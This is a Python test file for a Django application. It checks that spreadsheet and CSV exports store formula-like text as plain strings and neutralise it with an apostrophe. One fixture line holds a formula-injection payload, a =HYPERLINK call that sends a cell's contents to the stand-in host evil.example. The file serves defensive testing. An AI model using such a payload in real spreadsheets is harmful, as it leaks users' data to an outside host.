"""Spreadsheets write text as text: a title that looks like a formula stays a string cell in
every export, CSV neutralises it and the organization's CSV still imports unchanged."""

import csv
import datetime
import decimal
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from liaison.communication.tests.factories import make_project, make_row, make_stakeholder
from liaison.core import spreadsheets
from liaison.matters.tests.factories import MatterFactory, build_hospital
from liaison.org.tests.factories import DepartmentFactory, OrganizationFactory, PersonFactory
from liaison.org.tests.test_transfer import snapshot
from liaison.org.transfer import csv_paths, import_organization, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A5,"Click")'
#: Text starting with every character a spreadsheet may read as the start of a formula,
#: and apostrophes that must survive the CSV mark being taken off.
STARTS = [HOSTILE, "+86 571 8000", "-", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''", "'a"]


def read(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def cells(book: openpyxl.Workbook):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def string_cells_with(book: openpyxl.Workbook, text: str):
    found = [cell for cell in cells(book) if cell.value == text]
    assert found, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" for cell in found)
    return found


# The helper.


def test_each_value_is_written_as_its_type():
    buffer = io.BytesIO()
    book = spreadsheets.workbook(buffer)
    sheet = book.add_worksheet()
    moment = timezone.make_aware(datetime.datetime(2026, 3, 2, 9, 30), datetime.UTC)
    spreadsheets.write_row(
        sheet,
        0,
        [*STARTS, 7, decimal.Decimal("2.5"), True, datetime.date(2026, 3, 2), moment, None, ""],
    )
    book.close()

    row = next(read(buffer.getvalue()).active.iter_rows(values_only=False))
    texts, rest = row[: len(STARTS)], row[len(STARTS) :]
    # XLSX stores a carriage return as "_x000D_", which Excel decodes and openpyxl does not.
    read_back = [(c.data_type, c.value.replace("_x000D_", "\r")) for c in texts]
    assert read_back == [("s", text) for text in STARTS]
    assert [(c.data_type, c.value) for c in rest[:3]] == [("n", 7), ("n", 2.5), ("b", True)]
    assert rest[3].value == datetime.datetime(2026, 3, 2)
    assert rest[4].value == datetime.datetime(2026, 3, 2, 17, 30)  # Shanghai wall clock
    assert len(row) == len(STARTS) + 5  # None and "" leave the cell empty


def test_even_the_generic_write_keeps_text_as_text():
    buffer = io.BytesIO()
    book = spreadsheets.workbook(buffer)
    sheet = book.add_worksheet()
    sheet.write(0, 0, HOSTILE)
    sheet.write(0, 1, "http://evil.example/")
    book.close()

    first, second = next(read(buffer.getvalue()).active.iter_rows())
    assert (first.data_type, first.value) == ("s", HOSTILE)
    assert (second.data_type, second.hyperlink) == ("s", None)


@pytest.mark.parametrize("text", STARTS)
def test_csv_neutralises_formulas_and_reads_back_the_same_text(text):
    stream = io.StringIO()
    spreadsheets.write_csv(stream, [[text, "信息科"]])

    [[cell, plain]] = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert cell[0] == "'" and plain == "信息科"
    assert spreadsheets.csv_text(cell) == text


def test_csv_leaves_numbers_and_ordinary_text_alone():
    assert spreadsheets.csv_cell(-3) == "-3"
    assert spreadsheets.csv_cell("信息科") == "信息科"
    assert spreadsheets.csv_cell("'Tis") == "'Tis"
    assert spreadsheets.csv_text("'Tis") == "'Tis"  # a hand-written apostrophe stays
    assert spreadsheets.csv_cell(None) == ""


# Every export.


@pytest.fixture
def h(db):
    return build_hospital()


def test_the_communication_export_writes_a_hostile_name_as_text(client, h):
    project = make_project(h, name=HOSTILE)
    president = make_stakeholder(project, h.p["xxk_head"], person=h.p["president"], role="@A1")
    make_row(project, h.p["xxk_head"], to=[president], owner=h.p["xxk_head"], information="-1+1")
    client.force_login(h.p["xxk_head"].user)

    response = client.get(reverse("communication:export", args=[project.pk]))

    book = read(response.content)
    assert len(string_cells_with(book, HOSTILE)) == 2  # the title of each sheet
    string_cells_with(book, "-1+1")
    string_cells_with(book, "@A1")
    next_due = book.worksheets[1]["G5"]
    assert next_due.is_date and isinstance(next_due.value, datetime.datetime)  # a date


def test_the_ledger_writes_a_hostile_title_as_text(client, h):
    MatterFactory(originator=h.p["xxk_liaison"], title=HOSTILE)
    client.force_login(h.p["office"].user)

    response = client.get(reverse("matters:ledger") + "?tab=all")

    book = read(b"".join(response.streaming_content))
    string_cells_with(book, HOSTILE)
    [number] = book.active["A"][1:]
    assert number.data_type == "n"  # numbers stay numbers


@pytest.fixture
def hostile_organization(db):
    organization = OrganizationFactory(code="hostile")
    DepartmentFactory(
        organization=organization, code="XXK", name=HOSTILE, phone="+86 571 8000", location="@3楼"
    )
    PersonFactory(organization=organization, name="=1+1", phone="-", title="'=职务")
    return organization


def test_the_organization_workbook_writes_hostile_cells_as_text(hostile_organization):
    buffer = io.BytesIO()
    write_xlsx(hostile_organization, buffer)

    book = read(buffer.getvalue())
    for text in (HOSTILE, "+86 571 8000", "@3楼", "=1+1", "-", "'=职务"):
        string_cells_with(book, text)
    before = snapshot()
    result = import_organization(hostile_organization, [("org.xlsx", buffer.getvalue())])
    assert result.ok and not result.changed, result.errors
    assert snapshot() == before


def test_the_organization_csv_neutralises_formulas_and_imports_unchanged(
    hostile_organization, tmp_path
):
    targets = csv_paths(tmp_path / "org.csv")
    write_csv(hostile_organization, *targets)
    departments, people = (open(p, encoding="utf-8-sig").read() for p in targets)  # noqa: SIM115
    assert f"'{HOSTILE}" in departments.replace('""', '"') and "'+86 571 8000" in departments
    assert "'=1+1" in people and "''=职务" in people
    before = snapshot()

    files = [(path, open(path, "rb").read()) for path in targets]  # noqa: SIM115
    result = import_organization(hostile_organization, files)

    assert result.ok and not result.changed, result.errors
    assert snapshot() == before
